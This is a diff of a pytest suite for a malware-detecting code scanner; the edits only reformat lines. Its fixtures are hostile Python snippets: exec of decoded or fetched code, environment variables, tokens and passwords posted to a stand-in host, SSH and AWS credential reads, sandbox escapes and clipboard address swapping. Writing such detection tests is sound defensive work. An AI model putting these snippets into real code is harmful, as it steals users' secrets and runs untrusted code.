@@ -8,17 +8,37 @@ import pytest
 
 FIRES = [
     ("runs-what-it-decoded", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 3),
-    ("runs-what-it-decoded", "import zlib\ndef open_it(x):\n    return zlib.decompress(x)\ny = open_it(b'a')\neval(y)", 6),
+    (
+        "runs-what-it-decoded",
+        "import zlib\ndef open_it(x):\n    return zlib.decompress(x)\ny = open_it(b'a')\neval(y)",
+        6,
+    ),
     ("runs-what-it-decoded", "exec(''.join(chr(c ^ 7) for c in (1, 2)))", 2),
     ("runs-what-it-fetched", "import urllib.request as r\ntext = r.urlopen('https://a.invalid').read()\nexec(text)", 4),
-    ("runs-what-it-fetched", "import requests, subprocess\nopen('a', 'wb').write(requests.get('http://a.invalid').content)", None),
+    (
+        "runs-what-it-fetched",
+        "import requests, subprocess\nopen('a', 'wb').write(requests.get('http://a.invalid').content)",
+        None,
+    ),
     ("hidden-name", "getattr(__builtins__, 'ex' + 'ec')('1')", 2),
     ("hidden-name", "__import__('so'[::-1]).getcwd()", 2),
     ("hidden-name", "import os\nos.__dict__['sys' + 'tem']('id')", 3),
     ("leaks-secrets", "import os, requests\nrequests.post('https://a.invalid', json=dict(os.environ))", 3),
-    ("leaks-secrets", "import os, requests\nt = os.environ['API_TOKEN']\nrequests.get('https://a.invalid', params=t)", 4),
-    ("leaks-secrets", "async def f(self):\n    c = await self.clipboard.read()\n    await self.api_call('https://a.invalid', json=c)", 4),
-    ("leaks-secrets", "async def f(self, value):\n    await self.api_call('https://a.invalid', json=value['password'])", 3),
+    (
+        "leaks-secrets",
+        "import os, requests\nt = os.environ['API_TOKEN']\nrequests.get('https://a.invalid', params=t)",
+        4,
+    ),
+    (
+        "leaks-secrets",
+        "async def f(self):\n    c = await self.clipboard.read()\n    await self.api_call('https://a.invalid', json=c)",
+        4,
+    ),
+    (
+        "leaks-secrets",
+        "async def f(self, value):\n    await self.api_call('https://a.invalid', json=value['password'])",
+        3,
+    ),
     ("reports-the-machine", "import socket, requests\nrequests.get('https://a.invalid/?h=' + socket.gethostname())", 3),
     ("reads-credentials", "import os\np = os.path.expanduser('~/.ssh/id_rsa')\nopen(p).read()", 4),
     ("reads-credentials", "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()", 3),
@@ -31,7 +51,11 @@ FIRES = [
     ("mines-coins", "POOL = 'stratum+tcp://a.invalid:1'", 2),
     ("leaves-the-sandbox", "x = ().__class__.__bases__[0].__subclasses__()", 2),
     ("leaves-the-sandbox", "def f(g):\n    return g.gi_frame.f_back", 3),
-    ("nags-for-permissions", "async def f(self):\n    while True:\n        await self.permissions.request('a', 'b')", 4),
+    (
+        "nags-for-permissions",
+        "async def f(self):\n    while True:\n        await self.permissions.request('a', 'b')",
+        4,
+    ),
     ("known-drop", "import requests\nrequests.post('http://203.0.113.9/x', json={})", 3),
 ]
 QUIET = [
@@ -54,7 +78,9 @@ def rules_of(result):
     return {(issue.rule, issue.line) for issue in result.issues}
 
 
-@pytest.mark.parametrize(("rule", "source", "line"), [item for item in FIRES if item[2]], ids=lambda value: str(value)[:40])
+@pytest.mark.parametrize(
+    ("rule", "source", "line"), [item for item in FIRES if item[2]], ids=lambda value: str(value)[:40]
+)
 def test_a_source_that_meets_its_sink_is_found_at_its_line(scan, rule, source, line):
     result = asyncio.run(scan(source))
     assert (rule, line) in rules_of(result)
@@ -67,7 +93,9 @@ def test_a_socket_and_a_shell_are_joined(scan):
 
 
 def test_what_is_downloaded_to_a_file_is_followed_to_the_process(scan):
-    source = "import requests, subprocess\nname = 'a'\nopen(name, 'wb').write(requests.get('http://a.invalid').content)\n"
+    source = (
+        "import requests, subprocess\nname = 'a'\nopen(name, 'wb').write(requests.get('http://a.invalid').content)\n"
+    )
     result = asyncio.run(scan(f"{source}subprocess.run([name])"))
     assert ("runs-what-it-fetched", 5) in rules_of(result)
     assert asyncio.run(scan(f"{source}subprocess.run(['ls'])")).passed
@@ -87,7 +115,9 @@ def test_a_text_that_is_itself_a_source_is_read(scan):
 
 def test_the_clipboard_is_swapped_only_where_an_address_is_known(scan):
     body = "async def f(self):\n    t = await self.clipboard.read()\n    await self.clipboard.write({})\n"
-    swapped = asyncio.run(scan(body.format("'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'"), permissions=["system.clipboard"]))
+    swapped = asyncio.run(
+        scan(body.format("'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'"), permissions=["system.clipboard"])
+    )
     copied = asyncio.run(scan(body.format("t.strip()"), permissions=["system.clipboard"]))
     assert "swaps-the-clipboard" in {issue.rule for issue in swapped.issues}
     assert copied.passed
